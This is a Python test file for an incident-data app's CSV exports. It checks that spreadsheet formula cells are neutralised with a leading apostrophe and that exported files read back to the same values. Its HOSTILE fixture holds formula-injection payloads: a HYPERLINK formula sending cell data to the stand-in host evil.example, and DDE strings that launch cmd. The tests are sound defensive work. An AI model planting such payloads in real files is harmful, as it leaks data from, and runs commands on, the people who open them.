"""Downloads are safe to open in a spreadsheet, and read back to the same values."""

import csv
import io

import pytest

from incidents.acled import ACLED_COLUMNS
from incidents.models import Incident
from incidents.spreadsheets import neutralised, restored
from tests.incidents.test_import_acled import acled_row, run

HOSTILE = {
    "notes": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "actor1": "+cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin3": "-2+3+cmd|' /C calc'!A0",
    "source": "=Studio Tamani",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-x", "'-x"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already apostrophe-led: one more, so it reads back as it was
        ("-4.5833", "-4.5833"),  # a negative number is data
        ("+12", "+12"),
        ("plain", "plain"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (15, 15),
        (None, None),
    ],
)
def test_formula_cells_are_neutralised_and_restored(value, written):
    assert neutralised(value) == written
    if isinstance(value, str):
        assert restored(written) == value


def import_acled(tmp_path, **overrides):
    path = tmp_path / "acled.csv"
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, ACLED_COLUMNS, extrasaction="ignore")
        writer.writeheader()
        writer.writerow(acled_row(**overrides))
    return run(path)


def csv_cells(response):
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text))), text


def test_the_csv_download_never_starts_a_text_cell_with_a_formula(db, client, tmp_path):
    import_acled(tmp_path, **HOSTILE)
    rows, _text = csv_cells(client.get("/incidents.csv"))
    (row,) = rows
    assert row["notes"] == "'" + HOSTILE["notes"]
    assert row["actor1"] == "'" + HOSTILE["actor1"]
    assert row["location"] == "'" + HOSTILE["location"]
    assert row["admin3"] == "'" + HOSTILE["admin3"]
    assert row["source"] == "'" + HOSTILE["source"]
    assert row["longitude"] == "-4.583300"  # numbers stay numbers
    for value in row.values():
        assert (
            not value or value[0] not in "=+-@\t\r" or value.lstrip("-").replace(".", "").isdigit()
        )


def test_the_analysis_csv_is_neutralised_too(db, client, tmp_path):
    import_acled(tmp_path, actor1="=evil()")
    text = client.get("/analysis/series.csv", {"split": "actor", "interval": "year"}).content
    assert b"'=evil()" in text
    assert b",=evil()" not in text


def test_a_download_reads_back_to_the_same_values_and_the_same_bytes(db, client, tmp_path):
    import_acled(tmp_path, **HOSTILE)
    first = b"".join(client.get("/incidents.csv").streaming_content)
    Incident.objects.all().delete()
    exported = tmp_path / "export.csv"
    exported.write_bytes(first)
    report = run(exported)
    assert report.created == 1
    incident = Incident.objects.get()
    assert incident.narrative == HOSTILE["notes"]
    assert incident.location.name == HOSTILE["location"]
    assert b"".join(client.get("/incidents.csv").streaming_content) == first
